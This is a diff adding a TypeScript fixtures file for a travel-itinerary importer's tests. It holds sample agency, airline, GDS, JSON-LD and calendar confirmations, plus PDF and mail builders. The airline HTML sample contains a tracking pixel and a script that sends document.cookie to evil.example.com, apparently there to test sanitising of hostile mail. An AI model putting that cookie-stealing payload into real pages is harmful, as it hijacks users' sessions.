@@ -1,0 +1,143 @@
+// Confirmations written for the project's tests and the import bench, one of each kind people get:
+// a US corporate agency's plain-text itinerary, a European airline's HTML mail (no schema.org
+// data), GDS segment lines, a PDF itinerary attached to a mail, a forwarded mail with the
+// confirmation nested inside, a calendar invitation, and HTML with broken schema.org data.
+import MailComposer from 'nodemailer/lib/mail-composer/index.js';
+import PDFDocument from 'pdfkit';
+
+export const agencyText = `CORPORATE TRAVEL PARTNERS - ITINERARY
+Prepared for: SMITH/JANE MS              Agency record locator: QX7TRB
+
+Monday, March 16, 2026
+  AIR   United Airlines   Flight UA 1143        Confirmation: KLM4QZ
+        Depart: 7:05 AM   Newark, NJ (EWR)
+        Arrive: 10:20 AM  Chicago O'Hare, IL (ORD)
+        Seat: 14C   Economy   Non-stop   Duration 2hr 15min
+
+  HOTEL  Hilton Chicago
+        Address: 720 S Michigan Ave, Chicago, IL 60605
+        Check-in: Mon 16 Mar 2026   Check-out: Thu 19 Mar 2026
+        Confirmation: 3345987721
+
+  CAR   Hertz   Intermediate SUV      Confirmation: H88213409
+        Pick-up: March 16, 2026 11:00 AM   Pick-up location: Chicago O'Hare Airport
+        Return: March 19, 2026 2:30 PM     Return location: Chicago O'Hare Airport
+
+Thursday, March 19, 2026
+  AIR   United Airlines   Flight UA 2210        Confirmation: KLM4QZ
+        Depart: 5:45 PM   Chicago O'Hare, IL (ORD)
+        Arrive: 9:02 PM   Newark, NJ (EWR)
+        Seat: 22A
+
+Please arrive at the airport at least 90 minutes before departure.
+`;
+
+export const airlineHtml = `<!DOCTYPE html><html><head><title>Ihre Buchung</title>
+<style>td { padding: 4px }</style></head><body>
+<table><tr><td><img src="https://tracker.example.com/pixel.gif" width="1" height="1"></td></tr>
+<tr><td><h1>Buchungsbestätigung / Booking confirmation</h1></td></tr>
+<tr><td>Buchungscode / Booking code: <b>Z9KD4P</b></td></tr></table>
+<table>
+<tr><th>Flug</th><th>Datum</th><th>Von</th><th>Nach</th><th>Abflug</th><th>Ankunft</th></tr>
+<tr><td>LH 2036</td><td>24.04.2026</td><td>Frankfurt (FRA)</td><td>Wien (VIE)</td><td>06:45</td><td>08:05</td></tr>
+<tr><td>LH 6327</td><td>27.04.2026</td><td>Wien (VIE)</td><td>Frankfurt (FRA)</td><td>18:40</td><td>20:05</td></tr>
+</table>
+<script>document.location = 'https://evil.example.com/?' + document.cookie</script>
+<p>Gute Reise! <a href="https://www.example.com/checkin">Online check-in</a></p>
+</body></html>`;
+
+export const gdsText = `*** ELECTRONIC TICKET ITINERARY ***
+RECORD LOCATOR: 7HQ2KM
+ 1.1SMITH/JANE MS
+ 1 BA 117 J 16MAR 1 LHRJFK HK1  0825 1110  16MAR  E  BA/7HQ2KM
+ 2 BA 178 J 22MAR 7 JFKLHR HK1  1830 0635  23MAR  E  BA/7HQ2KM
+TKT 125-4412345678
+`;
+
+export const brokenJsonLdHtml = `<html><body>
+<script type="application/ld+json">
+{
+  "@type": "http://schema.org/FlightReservation",
+  "reservationNumber": "WX42PL",
+  "reservationFor": {
+    "@type": "Flight",
+    "flightNumber": "AF1234",
+    "airline": "Air France",
+    "departureAirport": "CDG",
+    "arrivalAirport": { "iataCode": "NCE" },
+    "departureTime": "2026-06-02T09:15:00",
+    "arrivalTime": "2026-06-02T10:40:00",
+  },
+}
+</script>
+<script type="application/ld+json">
+[{ "@context": "https://schema.org", "@type": "LodgingReservation", "reservationNumber": "88231",
+   "reservationFor": { "@type": "Hotel", "name": "Hôtel Négresco", "address": "37 Promenade des Anglais, Nice" },
+   "checkinDate": "2026-06-02", "checkoutDate": "2026-06-05" }]
+</script>
+<p>Merci !</p></body></html>`;
+
+export const invitationIcs = `BEGIN:VCALENDAR
+VERSION:2.0
+PRODID:-//Example Rail//Booking//EN
+BEGIN:VEVENT
+UID:rail-20260410-ice597@example.com
+DTSTAMP:20260301T120000Z
+DTSTART;TZID=Europe/Berlin:20260410T093400
+DTEND;TZID=Europe/Berlin:20260410T134100
+SUMMARY:Train ICE 597 Berlin Hbf - München Hbf
+DESCRIPTION:Booking number: DB8812345\\nTrain: ICE 597\\nFrom: Berlin Hbf\\nTo: München Hbf\\nCoach 7\\, seat 45
+END:VEVENT
+END:VCALENDAR
+`;
+
+/** A one-page PDF itinerary as agencies attach it: text in columns, laid out by pdfkit. */
+export async function itineraryPdf(options: { password?: string; textLayer?: boolean } = {}): Promise<Buffer> {
+  const doc = new PDFDocument({ size: 'A4', margin: 50, ...(options.password ? { userPassword: options.password, pdfVersion: '1.7' as const } : {}) });
+  const chunks: Buffer[] = [];
+  doc.on('data', (c: Buffer) => chunks.push(c));
+  const done = new Promise<Buffer>((resolve) => doc.on('end', () => resolve(Buffer.concat(chunks))));
+  if (options.textLayer === false) {
+    // A scan: shapes only, no text.
+    doc.rect(50, 50, 400, 300).fill('#888888');
+  } else {
+    doc.fontSize(16).text('Travel itinerary', 50, 50);
+    doc.fontSize(10).text('Booking reference: PDF7QK', 50, 80);
+    const row = (y: number, cells: string[]) => cells.forEach((c, i) => doc.text(c, 50 + i * 95, y, { lineBreak: false }));
+    row(120, ['Flight', 'Date', 'From', 'To', 'Departs', 'Arrives']);
+    row(140, ['AC 871', '05 May 2026', 'Toronto (YYZ)', 'Paris (CDG)', '18:30', '07:45 +1']);
+    doc.addPage();
+    doc.fontSize(10).text('Page 2: baggage rules apply.', 50, 50);
+  }
+  doc.end();
+  return done;
+}
+
+/** A mail, as a mail client writes it to disk, from its parts. */
+export async function mail(parts: {
+  subject?: string;
+  date?: string;
+  text?: string;
+  html?: string;
+  attachments?: { filename: string; content: Buffer | string; contentType: string; contentDisposition?: 'attachment' | 'inline' }[];
+}): Promise<Buffer> {
+  const composer = new MailComposer({
+    from: 'Travel Desk <desk@agency.example>',
+    to: 'jane@example.com',
+    subject: parts.subject ?? 'Your itinerary',
+    date: new Date(parts.date ?? '2026-02-20T15:00:00Z'),
+    text: parts.text,
+    html: parts.html,
+    attachments: parts.attachments,
+  });
+  return composer.compile().build();
+}
+
+/** A mail forwarded with the original attached as message/rfc822. */
+export async function forwardedMail(original: Buffer): Promise<Buffer> {
+  return mail({
+    subject: 'Fwd: Your itinerary',
+    text: 'See below, for the March trip.\n',
+    attachments: [{ filename: 'original.eml', content: original, contentType: 'message/rfc822', contentDisposition: 'attachment' }],
+  });
+}
